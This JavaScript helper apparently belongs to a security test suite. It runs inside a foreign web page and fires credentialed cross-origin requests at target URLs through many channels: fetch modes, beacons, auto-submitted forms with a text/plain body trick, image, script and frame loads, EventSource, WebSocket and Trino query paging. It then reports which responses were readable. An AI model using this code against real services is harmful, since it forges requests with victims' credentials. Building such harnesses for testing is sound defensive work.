// Runs in the browser, in a page of a foreign site: makes each attempt by its means, and says whether an answer was read.
// biome-ignore-all lint/correctness/noUnusedVariables: called by the test

/** What is answered at all is answered sooner; a busy machine needs some of it. */
const LONGEST_MS = 10_000
const AT_ONCE = 24

/** Out: for each attempt, whether the page could read what came back. */
async function attack(attempts) {
  const read = new Array(attempts.length).fill(false)
  let next = 0
  const work = async () => {
    while (next < attempts.length) {
      const at = next++
      const late = new Promise((resolve) => setTimeout(resolve, LONGEST_MS, false))
      read[at] = await Promise.race([late, means[attempts[at].means](attempts[at]).catch(() => false)])
    }
  }
  await Promise.all(Array.from({ length: AT_ONCE }, work))
  return read
}

const means = {
  'fetch, cors': (it) => fetched(it, { mode: 'cors', headers: it.headers }),
  'fetch, cors, as text': (it) => fetched(it, { mode: 'cors', headers: { 'content-type': 'text/plain' } }),
  'fetch, cors, as a form': (it) => fetched(it, { mode: 'cors', headers: formType }),
  'fetch, no-cors, as text': (it) =>
    fetched(it, { mode: 'no-cors', headers: { 'content-type': 'text/plain' } }),
  'fetch, no-cors, as a form': (it) => fetched(it, { mode: 'no-cors', headers: formType }),
  'fetch, no-cors, no referrer': (it) => fetched(it, { mode: 'no-cors', referrerPolicy: 'no-referrer' }),
  'fetch, same origin': (it) => fetched(it, { headers: it.headers }),
  beacon: async (it) => {
    navigator.sendBeacon(it.url, new Blob([it.body], { type: 'text/plain' }))
    return false
  },
  'form, urlencoded': (it) => submitted(it, 'application/x-www-form-urlencoded'),
  'form, multipart': (it) => submitted(it, 'multipart/form-data'),
  'form, text': (it) => submitted(it, 'text/plain'),
  image: (it) => loaded('img', it, (element) => element.naturalWidth > 0),
  script: (it) => loaded('script', it, () => false),
  frame: (it) => loaded('iframe', it, (element) => Boolean(element.contentDocument?.body?.textContent)),
  EventSource: (it) =>
    new Promise((resolve) => {
      const source = new EventSource(it.url)
      source.onopen = () => resolve(true)
      source.onerror = () => resolve(false)
    }),
  WebSocket: (it) =>
    new Promise((resolve) => {
      const socket = new WebSocket(it.url.replace('http:', 'ws:'), ['mqtt'])
      socket.onopen = () => resolve(true)
      socket.onerror = () => resolve(false)
    }),
  // Trino carries a statement out while its client asks for the pages of the answer.
  'fetch, page after page': async (it) => {
    let answer = await fetch(it.url, { method: it.method, headers: it.headers, body: it.body })
    if (!answer.ok) return false
    for (let page = 0; page < 20; page++) {
      const { nextUri } = await answer.json()
      if (!nextUri) return true
      answer = await fetch(new URL(new URL(nextUri).pathname, it.url), { headers: it.headers })
      if (!answer.ok) return true
    }
    return true
  },
}

const formType = { 'content-type': 'application/x-www-form-urlencoded' }

async function fetched(it, options) {
  const body = it.method === 'GET' ? undefined : it.body
  const answer = await fetch(it.url, { method: it.method, body, credentials: 'include', ...options })
  return answer.ok
}

function submitted(it, enctype) {
  const frame = document.createElement('iframe')
  frame.name = `frame-${it.id}`
  const form = document.createElement('form')
  Object.assign(form, { method: 'POST', action: it.url, enctype, target: frame.name })
  // As a form of text sends it, `name=value` is a body of the attacker's choice.
  const at = it.body.indexOf('=')
  const asText = at < 0 ? [[it.body, '']] : [[it.body.slice(0, at), it.body.slice(at + 1)]]
  for (const [name, value] of enctype === 'text/plain' ? asText : it.fields) {
    const field = document.createElement('textarea')
    Object.assign(field, { name, value })
    form.append(field)
  }
  document.body.append(frame, form)
  const done = new Promise((resolve) => {
    frame.onload = () => resolve(false)
  })
  form.submit()
  return done
}

function loaded(kind, it, isRead) {
  return new Promise((resolve) => {
    const element = document.createElement(kind)
    element.onload = () => {
      let seen = false
      try {
        seen = isRead(element)
      } catch {
        // Another origin's document.
      }
      resolve(seen)
    }
    element.onerror = () => resolve(false)
    element.src = it.url
    document.body.append(element)
  })
}
